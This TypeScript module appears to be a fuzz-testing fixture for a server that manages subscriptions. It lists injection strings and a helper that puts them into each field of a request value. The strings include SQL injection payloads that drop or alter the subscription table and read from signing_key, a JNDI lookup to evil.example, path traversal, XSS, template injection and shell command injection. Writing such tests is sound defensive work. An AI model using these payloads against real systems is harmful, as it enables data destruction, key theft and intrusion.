import { isJsonObject } from '../../../src/kernel/index.ts';

/** Texts that mean something to a database if somebody puts them into a statement, or that it cannot hold. */
export const SQL: readonly string[] = [
  "'",
  "' or '1'='1",
  "'; select pg_sleep(8); --",
  '1 or (select 1 from pg_sleep(8)) is null',
  "'||(select pg_sleep(8))||'",
  "'; drop table subscription cascade; --",
  "x'); update subscription set state = 'Deleted'; --",
  "' union select value::text from signing_key --",
  String.raw`\'; reset role; --`,
  '$$; select pg_sleep(8); $$',
  '"; drop table "subscription',
  '/* */ or 1=1 #',
  'a\u0000b',
];

/** Texts that mean something to other parts of a server. */
export const OTHERS: readonly string[] = [
  '\u0000',
  '%',
  '_',
  '*',
  '\r\nX-Injected: yes',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '<script>alert(1)</script>',
  '$(sleep 8)',
  '; sleep 8 &',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'true',
  '[]',
  '{}',
  '-1',
  '0',
  '1e309',
  '9'.repeat(40),
  '99999999999999999999-01-01T00:00:00Z',
  '-271821-04-20T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '2018-06-31T24:60:60Z',
  '\u{1f4a3}',
  '\u202e\u2066\ufeff',
  '\ufffe\uffff',
  'İ'.repeat(10),
  'a'.repeat(1_900),
  '%00',
  '%2527',
  ' ',
  '\t',
];

/** The texts of SQL, and some of the others: which ones depends on the seed. */
export function textsFor(seed: number, others: number): string[] {
  const some = Array.from(
    { length: others },
    (_, at) => OTHERS[(seed * others + at) % OTHERS.length] ?? '',
  );
  return [...SQL, ...some];
}

/** The value as many times as it holds texts, numbers and the like, each time with another one replaced. */
export function withEachReplaced(value: unknown, by: unknown): unknown[] {
  if (Array.isArray(value)) {
    const list: readonly unknown[] = value;
    return list.flatMap((item, at) =>
      withEachReplaced(item, by).map((other) => list.with(at, other)),
    );
  }
  if (!isJsonObject(value)) return [by];
  return Object.entries(value).flatMap(([name, item]) =>
    withEachReplaced(item, by).map((other) => ({ ...value, [name]: other })),
  );
}
